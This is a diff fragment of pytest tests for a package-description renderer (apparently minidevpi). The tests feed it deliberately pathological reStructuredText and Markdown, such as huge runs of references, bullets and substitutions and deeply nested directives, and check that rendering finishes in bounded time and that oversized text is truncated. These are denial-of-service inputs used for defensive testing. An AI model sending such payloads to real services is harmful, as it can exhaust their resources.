+    "rst references": "a_ " * (1 << 18),
+    "rst nested quotes": "".join(" " * k + "x\n\n" for k in range(600)),
+    "rst bullets": "- " * (1 << 19),
+    "rst substitutions": "|a| " * (1 << 18),
+    "rst directives": ".. note::\n" + "".join("   " * k + ".. note::\n" for k in range(1, 200)),
+}
+
+
+@pytest.mark.parametrize("name", sorted(BOUNDED) + sorted(BOUNDED_RST))
+def test_hostile_descriptions_render_in_bounded_time(name):
+    text = BOUNDED.get(name) or BOUNDED_RST[name]
+    types = ["text/markdown", "text/x-rst"] if name in BOUNDED else ["text/x-rst"]
+    for ct in types:
+        t0 = time.process_time()
+        out = minidevpi.render_description(text, ct)
+        spent = time.process_time() - t0
+        assert spent < 10, (name, ct, spent)  # measured: well under 2 s each
+        _Tags(out)
+
+
+def test_oversized_description_is_plain_text_truncated():
+    text = "# big\n" + "x" * (minidevpi.DESCRIPTION_MAX_CHARS + 10)
+    out = minidevpi.render_description(text, "text/markdown")
+    assert out.startswith("<pre># big\nxxx") and "<h1>" not in out
+    assert "(description truncated: %d characters in all)" % len(text) in out
+    assert len(out) < minidevpi.DESCRIPTION_MAX_CHARS + 200
 
 
 # ----------------------------------------------------------------------------------
